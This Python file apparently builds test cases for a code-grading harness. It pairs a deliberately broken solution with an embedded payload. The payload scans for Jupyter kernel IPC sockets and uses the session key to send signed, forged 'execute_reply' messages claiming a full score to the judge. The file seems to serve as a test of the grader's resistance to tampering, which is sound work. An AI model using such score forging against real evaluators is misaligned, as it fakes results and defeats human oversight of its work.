from cases import first, unsolve

ATTACK = """
import glob, json, os, threading, time, zmq
kernel = get_ipython().kernel
context = zmq.Context()
endings = []

for path in glob.glob("/home/student/**/kernel*", recursive=True) + glob.glob("/tmp/**", recursive=True) + glob.glob("/proc/net/unix"):
    for kind in (zmq.DEALER, zmq.ROUTER):
        socket = context.socket(kind)
        socket.linger = 0
        try:
            socket.connect("ipc://" + path)
            kernel.session.send(socket, "execute_reply", {"status": "ok", "score": 20})
            endings.append(socket)
        except Exception:
            pass
"""


def make(solved, outside):
    """With the connection's key, opens sockets of its own and signs replies for the judge."""
    return first(unsolve(solved, "to_nchw", "normalize"), ATTACK)
